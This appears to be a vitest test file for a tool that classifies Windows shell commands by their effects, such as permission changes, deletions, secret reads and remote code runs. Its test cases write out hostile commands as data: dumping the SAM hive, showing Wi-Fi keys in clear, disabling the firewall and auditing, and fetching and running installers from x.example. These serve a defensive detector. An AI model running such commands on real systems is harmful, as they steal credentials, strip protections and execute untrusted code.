import { describe, expect, it } from "vitest";
import { interpretText } from "../../shell/testing/read.js";

const effects = (command: string): string[] =>
  interpretText(`cmd /c ${command}`)
    .actions.filter(({ kind }) => kind !== "process.exec" && kind !== "code.run")
    .map(({ kind, resource, detail }) =>
      [kind, resource.name, detail.reason ?? detail.what ?? detail.mode ?? "", detail.recursive ? "recursive" : ""]
        .filter((part) => part !== "")
        .join(" "),
    );

describe("programs of Windows", () => {
  it.each<[command: string, does: readonly string[], why: string]>([
    [
      "icacls 'D:\\data' /grant Everyone:F /T",
      ["file.chmod /mnt/d/data world-writable recursive"],
      "open to everybody",
    ],
    ["icacls 'D:\\data' /grant bob:R", ["file.chmod /mnt/d/data other"], "open to one"],
    ["icacls 'D:\\data'", [], "a look"],
    ["icacls 'D:\\data' /save acl.txt", [], "rights kept"],
    ["cacls 'D:\\data' /e /g Everyone:F", ["file.chmod /mnt/d/data world-writable"], "the older program"],
    ["takeown /f 'D:\\data' /r /d y", ["file.chmod /mnt/d/data owner recursive"], "a word behind the path"],
    [
      "robocopy 'D:\\empty' 'D:\\data' /MIR",
      ["file.read /mnt/d/empty recursive", "file.write /mnt/d/data recursive", "file.delete /mnt/d/data recursive"],
      "a mirror deletes",
    ],
    ["robocopy 'D:\\empty' 'D:\\data' /MIR /L", ["file.read /mnt/d/empty recursive"], "only listed"],
    ["TASKKILL /F /IM node.exe", ["system.kill node.exe"], "one program, in capitals"],
    ["taskkill /f /fi 'USERNAME eq dev'", ["system.kill *"], "whatever is somebody's"],
    ["taskkill /f /fi 'IMAGENAME eq node.exe'", ["system.kill IMAGENAME eq node.exe"], "a filter that names it"],
    ["reg save 'HKLM\\SAM' s", ["secret.read * keychain"], "password hashes"],
    ["reg export 'HKCU\\Software\\My' s", [], "settings"],
    ["netsh wlan show interfaces", [], "a look"],
    ["netsh wlan show profile x key=clear", ["secret.read * keychain"], "a key in clear"],
    ["netsh advfirewall set allprofiles state off", ["system.configure * network"], "a firewall"],
    ["msiexec /x '{A}' /qn", ["system.configure * packages"], "a removal"],
    [
      "msiexec /i https://x.example/a.msi /qn",
      ["net.receive x.example", "opaque * untrusted_code"],
      "what it fetches it runs",
    ],
    ["setx PATH x /M", ["system.configure * environment"], "for every process to come"],
    ["assoc .txt", [], "a look"],
    ["assoc .txt=x", ["system.configure * desktop"], "what opens a kind of file"],
    ["manage-bde -status", [], "a look"],
    ["manage-bde -off C:", ["system.configure * disk-encryption"], "a disk in clear"],
    ["sdelete -p 3 -s 'D:\\data'", ["file.delete /mnt/d/data recursive"], "files overwritten"],
    ["DISM /Online /Get-Features", [], "a look"],
    ["DISM /Online /Disable-Feature /FeatureName:X", ["system.configure * feature"], "a part of the system"],
    ["fsutil volume diskfree C:", [], "a look"],
    ["fsutil usn deletejournal /D C:", ["system.disk * usn"], "the journal of a disk"],
    ["cmdkey /list", [], "names"],
    ["cmdkey /add:s /user:u /pass:p", ["system.configure * keychain"], "a login"],
    ["sfc /verifyonly", [], "a look"],
    ["net start", [], "a look"],
    ["net accounts", [], "a look"],
    ["net accounts /minpwlen:0", ["system.configure * user"], "what a password needs"],
    ["pnputil /enum-drivers", [], "a look"],
    ["pnputil /delete-driver x.inf", ["system.configure * driver"], "a driver"],
    ["chkdsk D:", [], "a look"],
    ["chkdsk D: /f", ["system.configure * disk"], "a repair"],
    ["logoff 1", ["system.configure * session"], "somebody's session"],
    ["runas /user:admin cmd", ["system.privilege * user"], "as somebody else"],
    ["mofcomp x.mof", ["system.persist * management"], "later, by itself"],
    ["installutil /U x.dll", ["opaque * unknown_code"], "code of a library"],
    ["esentutl /y /vss x /d y", ["secret.read * keychain"], "what is locked is read"],
    ["auditpol /clear", ["system.configure * logs"], "what is written down"],
    ["del/f/s/q 'D:\\data'", ["file.delete /mnt/d/data recursive"], "switches without blanks"],
    ["'del /s /q C:\\Users\\dev\\x'", ["file.delete /home/dev/x recursive"], "somebody's folder in one text"],
    [
      "certutil -urlcache -f https://x.example/a.exe a.exe && cmd /c a.exe",
      ["net.receive x.example", "file.write /home/dev/app/a.exe", "opaque * untrusted_code"],
      "a file of the folder at hand",
    ],
  ])("P3: %s: %j: %s", (command, does) => {
    expect(effects(command)).toEqual(does);
  });
});
